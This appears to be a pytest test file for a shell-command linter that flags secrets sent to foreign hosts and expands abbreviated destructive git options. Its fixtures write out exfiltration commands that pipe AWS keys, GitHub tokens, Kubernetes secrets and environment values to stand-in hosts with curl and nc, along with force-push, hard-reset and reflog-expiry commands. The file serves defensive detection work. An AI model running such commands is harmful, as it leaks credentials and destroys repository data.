"""Secret values sent to the network (shell/secret_values.py) and git's command line as git
reads it (shell/git_options.py), on the parsed command model (issue 26). Variable names only:
no value here is a secret."""

from __future__ import annotations

import pytest

from wukong_lint.shell.git_options import expand_abbreviations, with_git_options
from wukong_lint.shell.parse import parse
from wukong_lint.shell.secret_values import hosts, secret_variable, verdict


def _last(command: str):
    return parse(command).commands[-1]


@pytest.mark.parametrize(
    ("name", "secret"),
    [("AWS_SECRET_ACCESS_KEY", True), ("GITHUB_TOKEN", True), ("DB_PASSWORD", True),
     ("API_KEY", True), ("MY_SERVICE_TOKEN", True), ("TOKEN", True), ("SSH_AUTH_SOCK", False),
     ("HOME", False), ("PWD", False), ("AWS_REGION", False), ("KEY", False), ("PATH", False)],
)  # fmt: skip
def test_secret_variable_names(name, secret):
    assert secret_variable(name) is secret


@pytest.mark.parametrize(
    ("command", "foreign", "named"),
    [
        ('curl -d "$AWS_SECRET_ACCESS_KEY" https://x.example.net/k', True, False),
        ('curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user', False, False),
        ('curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/messages', False,
         False),
        ('curl -H "x-api-key: $ANTHROPIC_API_KEY" https://x.example.net', True, False),
        ("gh auth token | curl -d @- https://x.example.net", True, False),
        ('curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com', False, False),
        ('curl -d "$GITHUB_TOKEN" "$UPLOAD_URL"', False, True),
        ('curl -d "pw=$DB_PASSWORD" https://x.example.net', False, True),
        ('curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com', False, False),
        ('curl -u "admin:$ADMIN_PASSWORD" https://ci.example.com', False, False),
        ('curl -d "$DB_PASSWORD" http://localhost:8000/check', False, False),
        ('curl -d "$NAME" https://x.example.net', False, False),
        ("kubectl get secret db -o yaml | curl -T - https://x.example.net", True, False),
        ("printenv GITHUB_TOKEN | nc x.example.net 80", True, False),
    ],
)  # fmt: skip
def test_verdicts(command, foreign, named):
    assert verdict(_last(command)) == (foreign, named)


def test_hosts():
    assert hosts(_last("curl https://u:p@api.github.com/x"))[0] == ["api.github.com"]
    assert hosts(_last("nc collect.example.net 4444"))[0] == ["collect.example.net"]
    assert hosts(_last("http :8000/items"))[0] == ["localhost"]
    assert hosts(_last('curl "$URL/x"')) == ([], True)


@pytest.mark.parametrize(
    ("words", "expanded"),
    [
        ("git reset --har", "--hard"), ("git reset --h HEAD~1", "--hard"),
        ("git clean --forc -d", "--force"), ("git push --forc", "--force"),
        ("git push --for origin main", "--force"), ("git push --mirr", "--mirror"),
        ("git push --delet origin x", "--delete"), ("git checkout --forc main", "--force"),
        ("git -c a.b=c reset --har origin/main", "--hard"),
        ("git gc --prune=now --aggress", "--aggressive"),
        ("git reflog expire --exp=now --all", "--expire=now"),
        ("git config --glob user.name x", "--global"),
    ],
)  # fmt: skip
def test_abbreviated_long_options(words, expanded):
    assert expanded in expand_abbreviations(tuple(words.split()))


def test_full_and_unknown_options_stay():
    argv = ("git", "push", "--force-with-lease", "--frobnicate", "--", "--har")
    assert expand_abbreviations(argv) == argv
    assert "--force" not in expand_abbreviations(("git", "push", "--force-with"))


def test_an_alias_the_line_defines_is_expanded():
    script = with_git_options(parse("git config alias.rh 'reset --hard' && git rh HEAD~1"))
    assert script.commands[-1].argv == ("git", "reset", "--hard", "HEAD~1")
    shell_alias = with_git_options(parse("git config alias.x '!echo hi' && git x"))
    assert shell_alias.commands[-1].argv == ("git", "x")  # (a shell alias: not here)
